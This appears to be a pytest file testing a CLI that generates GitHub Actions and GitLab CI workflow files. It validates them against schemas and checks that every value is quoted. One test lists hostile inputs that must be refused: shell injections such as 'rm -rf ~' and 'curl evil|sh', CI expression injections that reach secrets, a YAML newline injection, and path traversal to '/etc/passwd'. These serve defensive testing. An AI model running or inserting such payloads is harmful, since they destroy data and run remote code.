"""`tfgpu ci init` (issue 31, part 2): the GitHub Actions workflow and the GitLab CI job it writes, and the composite
action in the repository root, against the published schemas (vendored in tests/data/ci/, SOURCES.md there); every
value reaches the YAML only checked and quoted; an existing file is never replaced without --force. actionlint and
shellcheck run on the same files in test_ci_lint.py (slow)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from tests import REPO
from tests.conftest import DATA
from tfgpu.core.errors import UsageError
from tfgpu.tools import ci

jsonschema = pytest.importorskip("jsonschema")

SCHEMAS = {name: json.loads((DATA / "ci" / f"{name}.schema.json").read_text(encoding="utf-8"))
           for name in ("github-workflow", "github-action", "gitlab-ci")}
FACTS = "tests/data/facts/mx150-laptop-ubuntu1804.json"
#: (tf, facts) of every kind of job: a GPU runner with and without a target; a CPU runner planning for a machine.
JOBS = [(None, None), ("2.21", None), ("latest", None), ("2.15", FACTS), (None, FACTS)]


def _github(**kw: Any) -> dict[str, Any]:
    return yaml.safe_load(ci.github_workflow(**kw))


def _gitlab(**kw: Any) -> dict[str, Any]:
    return yaml.safe_load(ci.gitlab_ci(**kw))


@pytest.mark.parametrize(("tf", "facts"), JOBS)
def test_the_github_workflow_passes_the_workflow_schema(tf: str | None, facts: str | None) -> None:
    wf = _github(tf=tf, facts=facts)
    jsonschema.validate(wf, SCHEMAS["github-workflow"])
    job = wf["jobs"]["tfgpu-doctor"]
    assert wf["on"] == {"push": None, "pull_request": None, "workflow_dispatch": None}
    runs = [s["run"] for s in job["steps"] if "run" in s]
    assert runs[0] == 'python -m pip install "$TFGPU_CI_PIP_SPEC"'
    doctor = runs[1]
    assert doctor.startswith("tfgpu doctor --ci")
    assert ("--require-gpu" in doctor) is (facts is None)  # a GPU runner must have its GPU
    assert ('--facts "$TFGPU_CI_FACTS"' in doctor) is (facts is not None)
    assert ('--tf "$TFGPU_CI_TF"' in doctor) is (tf is not None)
    assert job["env"].get("TFGPU_CI_TF") == tf
    assert job["env"].get("TFGPU_CI_FACTS") == facts
    assert job["runs-on"] == ("ubuntu-latest" if facts else ["self-hosted", "linux", "gpu"])
    assert any(s.get("uses") == "actions/checkout@v4" for s in job["steps"]) is (facts is not None)
    upload = job["steps"][-1]
    assert upload["uses"] == "actions/upload-artifact@v4"
    assert upload["if"] == "always()"


@pytest.mark.parametrize(("tf", "facts"), JOBS)
def test_the_gitlab_job_passes_gitlabs_ci_schema(tf: str | None, facts: str | None) -> None:
    doc = _gitlab(tf=tf, facts=facts)
    jsonschema.validate(doc, SCHEMAS["gitlab-ci"])
    job = doc["tfgpu-doctor"]
    assert job["script"][0] == 'python -m pip install "$TFGPU_CI_PIP_SPEC"'
    assert ("--require-gpu" in job["script"][1]) is (facts is None)
    assert job.get("tags") == (None if facts else ["gpu"])
    assert job["artifacts"] == {"when": "always", "paths": ["tfgpu-doctor.json"]}
    assert job["variables"].get("TFGPU_CI_TF") == tf


def test_the_schemas_do_refuse_a_broken_file() -> None:
    """The vendored schemas are not vacuous: a misspelt key fails each."""
    doc = _gitlab(tf="2.21")
    doc["tfgpu-doctor"]["scripts"] = doc["tfgpu-doctor"].pop("script")
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(doc, SCHEMAS["gitlab-ci"])
    wf = _github(tf="2.21")
    wf["jobs"]["tfgpu-doctor"]["step"] = wf["jobs"]["tfgpu-doctor"].pop("steps")
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(wf, SCHEMAS["github-workflow"])


def test_the_composite_action_passes_the_action_schema() -> None:
    action = yaml.safe_load((REPO / "action.yml").read_text(encoding="utf-8"))
    jsonschema.validate(action, SCHEMAS["github-action"])
    assert action["runs"]["using"] == "composite"
    assert set(action["inputs"]) == {"tf", "facts", "require-gpu", "strict", "python", "report"}
    for step in action["runs"]["steps"]:
        # inputs reach the scripts only through env, never as ${{ }} inside a script
        assert "${{" not in step["run"]
        assert all(str(v).startswith("${{ inputs.") for v in (step.get("env") or {}).values())
    doctor = action["runs"]["steps"][1]["run"]
    assert '"$RUNNER_TEMP/tfgpu-venv/bin/tfgpu" "${args[@]}"' in doctor
    assert "--require-gpu" in doctor
    assert '--facts "$TFGPU_CI_FACTS"' in doctor


@settings(max_examples=150, deadline=None)
@given(tf=st.one_of(st.none(), st.text(max_size=30), st.from_regex(r"[0-9]{1,3}(\.[0-9]{1,3}){0,2}", fullmatch=True)),
       facts=st.one_of(st.none(), st.text(max_size=40), st.from_regex(r"[A-Za-z0-9_./-]{1,40}", fullmatch=True)),
       spec=st.one_of(st.text(min_size=1, max_size=60),
                      st.from_regex(r"[A-Za-z0-9_.+/:@=<>!~\[\],#-]{1,60}", fullmatch=True)))
def test_any_value_is_refused_or_lands_quoted(tf: str | None, facts: str | None, spec: str) -> None:
    """Whatever the values, the file is either refused (exit 2) or every value comes back from the YAML exactly,
    as an environment variable, and nothing can become an expression or a shell word."""
    for writer, env_of in ((ci.github_workflow, lambda d: d["jobs"]["tfgpu-doctor"]["env"]),
                           (ci.gitlab_ci, lambda d: d["tfgpu-doctor"]["variables"])):
        try:
            text = writer(tf=tf or None, facts=facts or None, pip_spec=spec)
        except UsageError:
            continue
        env = env_of(yaml.safe_load(text))
        assert env["TFGPU_CI_PIP_SPEC"] == spec
        assert env.get("TFGPU_CI_TF") == (tf or None)
        assert env.get("TFGPU_CI_FACTS") == (facts or None)
        for value in env.values():
            assert not set(value) & set("${}`'\"\\ \n\r\t;&|")


@pytest.mark.parametrize(("kw", "match"), [
    ({"tf": "2.21; rm -rf ~"}, "is not a release"),
    ({"tf": "${{ secrets.TOKEN }}"}, "is not a release"),
    ({"facts": "/etc/passwd"}, "relative to the repository root"),
    ({"facts": "../other/facts.json"}, "no \\.\\."),
    ({"facts": "-rf"}, "relative to the repository root"),
    ({"facts": "a b.json"}, "relative to the repository root"),
    ({"pip_spec": "tfgpu; curl evil|sh"}, "--pip-spec"),
    ({"pip_spec": "${{ github.event.issue.title }}"}, "--pip-spec"),
    ({"python": "3.12\nrun: evil"}, "--python"),
])
def test_bad_values_are_refused(kw: dict[str, str], match: str) -> None:
    for writer in ci.WRITERS.values():
        with pytest.raises(UsageError, match=match):
            writer(**kw)


def test_ci_init_writes_the_file_and_never_replaces_one(cli, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(tmp_path)
    code, out, err = cli("ci", "init", "--tf", "2.21")
    assert code == 0, err
    path = tmp_path / ".github" / "workflows" / "tfgpu.yml"
    assert path.read_text(encoding="utf-8") == ci.github_workflow(tf="2.21")
    assert "wrote .github/workflows/tfgpu.yml" in out
    path.write_text("# mine\n", encoding="utf-8")
    code, _, err = cli("ci", "init", "--tf", "2.20")
    assert code == 2
    assert "exists; not replacing it without --force" in err
    assert path.read_text(encoding="utf-8") == "# mine\n"
    code, _, _ = cli("ci", "init", "--tf", "2.20", "--force")
    assert code == 0
    assert "TFGPU_CI_TF: \"2.20\"" in path.read_text(encoding="utf-8")
    (tmp_path / ".gitlab-ci.yml").write_text("stages: [test]\n", encoding="utf-8")
    code, _, err = cli("ci", "init", "--gitlab")
    assert code == 2
    assert "include: {local: ci/tfgpu.gitlab-ci.yml}" in err
    code, _, _ = cli("ci", "init", "--gitlab", "-o", "ci/tfgpu.gitlab-ci.yml")
    assert code == 0
    assert (tmp_path / "ci" / "tfgpu.gitlab-ci.yml").read_text(encoding="utf-8") == ci.gitlab_ci()


def test_ci_init_refuses_to_write_through_a_planted_link(cli, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep\n", encoding="utf-8")
    (tmp_path / ".gitlab-ci.yml").symlink_to(victim)
    code, _, _ = cli("ci", "init", "--gitlab")
    assert code == 2
    code, _, _ = cli("ci", "init", "--gitlab", "--force")  # replaces the link itself, never writes through it
    assert code == 0
    assert victim.read_text(encoding="utf-8") == "keep\n"
    assert not (tmp_path / ".gitlab-ci.yml").is_symlink()


def test_ci_init_checks_the_facts_file_and_its_options(cli, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.chdir(REPO)
    code, out, err = cli("ci", "init", "--gitlab", "--facts", FACTS, "--tf", "2.15", "-o", "-")
    assert code == 0, err
    assert yaml.safe_load(out)["tfgpu-doctor"]["variables"]["TFGPU_CI_FACTS"] == FACTS
    code, _, err = cli("ci", "init", "--facts", "tests/data/no-such.json", "-o", "-")
    assert code == 2
    assert "Traceback" not in err
    bad = tmp_path / "bad.json"
    bad.write_text("{not json", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    code, _, err = cli("ci", "init", "--facts", "bad.json", "-o", "-")
    assert code == 2
    code, _, err = cli("ci", "init", "--github", "--gitlab")
    assert code == 2
    assert "one of --github and --gitlab" in err
    assert not list(tmp_path.rglob("*.yml"))
